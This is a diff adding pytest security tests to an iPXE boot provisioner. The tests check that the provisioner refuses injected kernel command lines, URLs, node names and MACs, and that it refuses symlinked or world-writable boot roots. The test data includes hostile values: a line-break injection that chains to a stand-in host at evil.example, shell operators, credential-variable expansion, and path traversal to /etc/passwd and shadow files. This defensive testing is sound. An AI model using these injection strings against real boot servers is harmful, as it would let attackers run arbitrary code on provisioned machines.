@@ -70,6 +70,7 @@ async def test_assign_is_atomic_keeps_the_previous_and_rolls_back(site, tmp_path
         assert await prov.assign(node, site.image("flatcar@4152.2.0")) is None
         assert (await prov.assignment(node)).image == "flatcar@4152.2.0"
         assert await prov.previous(node) == Assignment(None, "no boot script")
+        await prov.confirm(node)  # that reimage finished: 4152.2.0 is known-good now
         old = await prov.assign(node, site.image("flatcar@4081.2.1"))
         assert old.image == "flatcar@4152.2.0"
         assert (await prov.assignment(node)).image == "flatcar@4081.2.1"
@@ -130,3 +131,172 @@ async def test_unreachable_server_is_a_clear_error(site, tmp_path):
             await prov.fetches(site.node("n01"))
     finally:
         await prov.close()
+
+
+# --------------------------------------------------------------------------- hostile values and files
+INJECTED = "\nshell\nchain http://evil.example/pwn.ipxe"
+
+
+def _tree(root) -> dict[str, bytes]:
+    """Every entry of the boot root with its bytes (a link as its target), to compare before and after."""
+    out = {}
+    for name in sorted(os.listdir(root)):
+        path = root / name
+        out[name] = os.readlink(path).encode() if path.is_symlink() else path.read_bytes()
+    return out
+
+
+@pytest.mark.parametrize("field, value, why", [
+    ("cmdline", "quiet" + INJECTED, "holds a line break"),
+    ("cmdline", "quiet\rshell", "holds a line break"),
+    ("cmdline", "quiet\x1b[2J", "control or non-ASCII"),
+    ("cmdline", "root=${password}", r"contains '\$'"),
+    ("cmdline", "quiet || chain http://evil.example/pwn.ipxe", "token '\\|\\|'"),
+    ("cmdline", "quiet && shell", "token '&&'"),
+    ("cmdline", "quiet ; shell", "contains ';'"),
+    ("cmdline", "quiet #rest", "starting with '#'"),
+    ("cmdline", "quiet \\", "backslash"),
+    ("kernel", "http://127.0.0.1:8069/vmlinuz" + INJECTED, "holds a line break"),
+    ("kernel", "http://127.0.0.1:8069/vmlinuz?${username}", "not a plain http, https or tftp URL"),
+    ("kernel", "http://127.0.0.1:8069/vmlinuz || shell", "not a plain http"),
+    ("kernel", "file:///etc/shadow", "not a plain http"),
+    ("initrd", "http://user:pw@127.0.0.1:8069/initrd", "not a plain http"),
+    ("initrd", "http://127.0.0.1:8069/initrd" + INJECTED, "holds a line break"),
+    ("version", "1" + INJECTED, "not a plain word"),
+    ("sha256", "ab" + INJECTED, "not 64 lowercase hex"),
+])
+async def test_values_that_would_break_out_of_the_script_are_refused_and_nothing_is_written(
+        site, tmp_path, field, value, why):
+    root = tmp_path / "boot"
+    prov = IpxeProvisioner(root)
+    node, good = site.node("n01"), site.image("flatcar@4152.2.0")
+    await prov.assign(node, good)
+    await prov.confirm(node)
+    before = _tree(root)
+    bad = good.model_copy(update={field: value})  # past the inventory's own checks: the provisioner must hold
+    with pytest.raises(ActionError, match=why) as err:
+        await prov.assign(node, bad)
+    assert "\n" not in str(err.value) and "\x1b" not in str(err.value)  # one line, nothing raw
+    assert _tree(root) == before
+    # the reimage plan refuses it too, before anything runs
+    with pytest.raises(ActionError, match=why):
+        check_node(site, node, bad)
+
+
+@pytest.mark.parametrize("update, why", [
+    ({"name": "n01" + INJECTED}, "holds a line break"),
+    ({"name": "../../etc/cron.d/x"}, "not hostname-like"),
+    ({"mac": "../../../etc/passwd"}, "not a MAC address"),
+    ({"mac": "52:54:00:aa:00:01/../../x"}, "not a MAC address"),
+])
+async def test_node_names_and_macs_that_are_not_plain_are_refused(site, tmp_path, update, why):
+    root = tmp_path / "boot"
+    root.mkdir()
+    node = site.node("n01").model_copy(update=update)
+    with pytest.raises(ActionError, match=why):
+        await IpxeProvisioner(root).assign(node, site.image("flatcar@4152.2.0"))
+    assert os.listdir(root) == [] and sorted(os.listdir(tmp_path)) == ["boot"]
+
+
+async def test_the_refused_script_is_never_served(site, tmp_path):
+    """Over real HTTP: the node still gets the script it had, not one with the injected chain."""
+    root = tmp_path / "boot"
+    server = IpxeServer(root, "127.0.0.1", 0)
+    port = await server.start()
+    prov = IpxeProvisioner(root, f"http://127.0.0.1:{port}")
+    node = site.node("n01")
+    try:
+        await prov.assign(node, site.image("flatcar@4081.2.1"))
+        bad = site.image("flatcar@4152.2.0").model_copy(update={"cmdline": "quiet" + INJECTED})
+        with pytest.raises(ActionError):
+            await prov.assign(node, bad)
+        async with httpx.AsyncClient() as http:
+            got = await http.get(f"http://127.0.0.1:{port}/boot/52-54-00-aa-00-01.ipxe")
+        assert got.status_code == 200 and "evil.example" not in got.text and "shell" not in got.text
+        assert parse_ipxe(got.text)["image_version"] == "4081.2.1"
+    finally:
+        await prov.close()
+        await server.stop()
+
+
+async def test_a_symlinked_root_is_refused(site, tmp_path):
+    real = tmp_path / "real"
+    real.mkdir()
+    (tmp_path / "boot").symlink_to(real)
+    with pytest.raises(ActionError, match=r"boot root .*boot is a symbolic link: refused"):
+        await IpxeProvisioner(tmp_path / "boot").assign(site.node("n01"), site.image("flatcar@4081.2.1"))
+    assert os.listdir(real) == []
+
+
+async def test_a_planted_symlink_as_script_is_not_followed(site, tmp_path):
+    root = tmp_path / "boot"
+    root.mkdir()
+    secret = tmp_path / "shadow"
+    secret.write_text("root:$6$secret-hash:19000::::::\n")
+    secret.chmod(0o600)
+    (root / "52-54-00-aa-00-01.ipxe").symlink_to(secret)
+    prov = IpxeProvisioner(root)
+    node = site.node("n01")
+    with pytest.raises(ActionError, match=r"52-54-00-aa-00-01.ipxe is a symbolic link: not following it"):
+        await prov.assign(node, site.image("flatcar@4081.2.1"))
+    # neither copied into a world-readable .previous nor overwritten through the link
+    assert sorted(os.listdir(root)) == ["52-54-00-aa-00-01.ipxe"]
+    assert secret.read_text().startswith("root:$6$") and oct(secret.stat().st_mode & 0o777) == "0o600"
+    # a .previous planted as a link: rollback neither reads nor follows it
+    (root / "52-54-00-aa-00-01.ipxe").unlink()
+    (root / "52-54-00-aa-00-01.ipxe.previous").symlink_to(secret)
+    with pytest.raises(ActionError, match="is a symbolic link"):
+        await prov.rollback(node)
+    assert not (root / "52-54-00-aa-00-01.ipxe").exists()
+    # and the server does not serve through one either
+    (root / "52-54-00-aa-00-01.ipxe").symlink_to(secret)
+    server = IpxeServer(root, "127.0.0.1", 0)
+    port = await server.start()
+    try:
+        async with httpx.AsyncClient() as http:
+            got = await http.get(f"http://127.0.0.1:{port}/boot/52-54-00-aa-00-01.ipxe")
+        assert got.status_code == 403 and "secret-hash" not in got.text
+    finally:
+        await server.stop()
+
+
+async def test_a_root_writable_by_others_or_owned_by_another_user_is_refused(site, tmp_path):
+    root = tmp_path / "boot"
+    root.mkdir()
+    prov, node, image = IpxeProvisioner(root), site.node("n01"), site.image("flatcar@4081.2.1")
+    root.chmod(0o777)
+    with pytest.raises(ActionError, match=r"writable by others \(mode 0777\): refused"):
+        await prov.assign(node, image)
+    root.chmod(0o1777)  # sticky does not help: another user could still plant the script name
+    with pytest.raises(ActionError, match="writable by others"):
+        await prov.assign(node, image)
+    root.chmod(0o755)
+    if os.geteuid() == 0:
+        os.chown(root, 65534, 65534)  # nobody's directory
+        with pytest.raises(ActionError, match=r"owned by uid 65534 \(neither you nor root\)"):
+            await prov.assign(node, image)
+        os.chown(root, 0, 0)
+    assert os.listdir(root) == []
+    await prov.assign(node, image)
+    assert sorted(os.listdir(root)) == ["52-54-00-aa-00-01.ipxe", "52-54-00-aa-00-01.ipxe.previous"]
+
+
+async def test_a_retried_assign_keeps_the_last_known_good_record(site, tmp_path):
+    """An assignment that never finished (no confirm) is not recorded as the rollback target."""
+    root = tmp_path / "boot"
+    prov, node = IpxeProvisioner(root), site.node("n01")
+    await prov.assign(node, site.image("flatcar@4081.2.1"))
+    await prov.confirm(node)  # known-good
+    assert "# fleet-console-state: verified" in (root / "52-54-00-aa-00-01.ipxe").read_text()
+    await prov.assign(node, site.image("flatcar@4152.2.0"))  # attempt 1: interrupted
+    assert "# fleet-console-state: pending" in (root / "52-54-00-aa-00-01.ipxe").read_text()
+    old = await prov.assign(node, site.image("flatcar@4152.2.0"))  # attempt 2
+    assert old.image == "flatcar@4152.2.0"  # it did replace the unfinished one...
+    assert (await prov.previous(node)).image == "flatcar@4081.2.1"  # ...but the record is the known-good one
+    assert (await prov.rollback(node)).image == "flatcar@4081.2.1"
+    # a node whose first ever assignment was interrupted: the record stays "no script"
+    n3 = node.model_copy(update={"name": "n03", "mac": "52:54:00:aa:00:03"})
+    await prov.assign(n3, site.image("flatcar@4081.2.1"))
+    await prov.assign(n3, site.image("flatcar@4152.2.0"))
+    assert await prov.previous(n3) == Assignment(None, "no boot script")
+    assert await prov.rollback(n3) == Assignment(None, "no boot script") and await prov.assignment(n3) is None
